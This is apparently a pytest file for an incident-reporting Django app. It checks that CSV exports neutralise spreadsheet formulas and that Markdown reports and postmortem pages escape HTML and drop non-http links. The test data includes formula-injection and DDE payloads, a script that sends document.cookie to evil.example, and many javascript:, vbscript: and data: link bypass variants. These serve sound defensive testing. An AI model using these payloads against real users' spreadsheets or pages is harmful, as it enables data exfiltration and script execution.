"""What people type cannot turn an export against its reader: CSV cells that a
spreadsheet would run as formulas are kept as text, and the Markdown report shows
HTML as text and keeps only http(s) links."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from incidents.postincident import postmortem
from incidents.reporting import csvfile, exports
from tests.incidents.helpers import T0, lived

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_a_csv_cell_that_would_be_a_formula_is_kept_as_text(client, responder, title):
    incident = lived(responder, title=title)
    client.force_login(responder)
    response = client.get(
        reverse("incidents:reports_csv"), {"start": "2026-03-01", "end": "2026-03-07"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    (row,) = [r for r in rows if int(r["id"]) == incident.pk]
    assert row["title"] == "'" + incident.title  # the service strips outer whitespace
    assert not row["title"].startswith(csvfile.FORMULA_STARTS)


def test_numbers_and_ordinary_text_are_left_alone():
    assert csvfile.csv_cell("-42") == "-42"
    assert csvfile.csv_cell(17) == 17
    assert csvfile.csv_cell("Payment webhooks failing") == "Payment webhooks failing"
    assert csvfile.csv_cell("") == ""


def _markdown_with_summary(responder, summary: str) -> str:
    incident = lived(responder, title="<img src=x onerror=alert(1)> outage", at=T0)
    pm = incident.postmortem
    postmortem.save_section(
        pm, "summary", {"summary": summary}, version=pm.version, original={}, actor=responder
    )
    return exports.incident_markdown(exports.incident_report(incident))


def test_the_markdown_report_shows_html_as_text(responder):
    text = _markdown_with_summary(
        responder, "<script>fetch('https://evil.example/'+document.cookie)</script>"
    )
    assert "<script>" not in text and "<img" not in text
    assert "&lt;script&gt;" in text and "&lt;img src=x onerror=alert(1)&gt;" in text


def test_the_markdown_report_keeps_only_http_links(responder):
    text = _markdown_with_summary(
        responder,
        "See [the dashboard](https://grafana.lotolink.example/d/1) and "
        "[click me](javascript:alert(document.cookie)) and ![x](data:text/html;base64,PHNjcmlwdD4=)"
        "\n[ref]: javascript:alert(1)\n[ok]: https://status.lotolink.example",
    )
    assert "[the dashboard](https://grafana.lotolink.example/d/1)" in text
    assert "javascript:alert(document.cookie)" not in text and "click me" in text
    assert "(data:" not in text
    assert "\\[ref]: javascript:alert(1)" in text  # no longer a link definition
    assert "[ok]: https://status.lotolink.example" in text


DANGEROUS_LINKS = {
    "nested-brackets": "[click[1]](javascript:alert(1))",
    "mixed-case": "[x](JaVaScRiPt:alert(1))",
    "whitespace": "[x](\n  javascript:alert(1)  )",
    "entity": "[x](&#106;avascript:alert(1))",
    "entity-named": "[x](javascript&colon;alert(1))",
    "escaped-colon": "[x](javascript\\:alert(1))",
    "angle-brackets": "[x](<javascript:alert(1)>)",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data-image": "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "link-in-link": "[[a](javascript:x)](javascript:y)",
    "image-in-link": "[![i](javascript:a)](javascript:b)",
    "reference": "[x][r]\n\n[r]: JAVASCRIPT:alert(1)",
    "in-a-list": "- step\n- [a\n  b](javascript:alert(1))",
    "in-a-quote": "> [q](data:text/html,x)",
}


@pytest.mark.parametrize("source", list(DANGEROUS_LINKS.values()), ids=list(DANGEROUS_LINKS))
def test_no_dangerous_link_survives_the_markdown_report(responder, source):
    from markdown_it import MarkdownIt

    text = _markdown_with_summary(responder, f"Before {source} after")
    # Parsed as any CommonMark viewer would, accepting every scheme: no link but http(s).
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda url: True
    links = [
        t.attrGet("href") or t.attrGet("src")
        for block in parser.parse(text)
        for t in block.children or []
        if t.type in ("link_open", "image")
    ]
    assert all(str(href).startswith(("http://", "https://")) for href in links), links
    assert "Before" in text and "after" in text


def test_the_postmortem_page_renders_markdown_sanitised(client, responder):
    incident = lived(responder, at=T0)
    pm = incident.postmortem
    postmortem.save_section(
        pm,
        "summary",
        {
            "summary": "**Bold** [ok](https://status.lotolink.example) "
            "[bad](javascript:alert(1)) <script>alert(2)</script> ![t](https://evil.example/t.png)"
        },
        version=pm.version,
        original={},
        actor=responder,
    )
    client.force_login(responder)
    page = client.get(reverse("incidents:postmortem", args=[incident.pk])).content.decode()
    shown = page.split('data-field="summary">')[1].split("</div>")[0]
    assert "<strong>Bold</strong>" in shown
    assert '<a href="https://status.lotolink.example" rel="noopener noreferrer nofollow">' in shown
    assert "href" not in shown.replace('href="https://status.lotolink.example"', "")
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in shown and "<img" not in shown
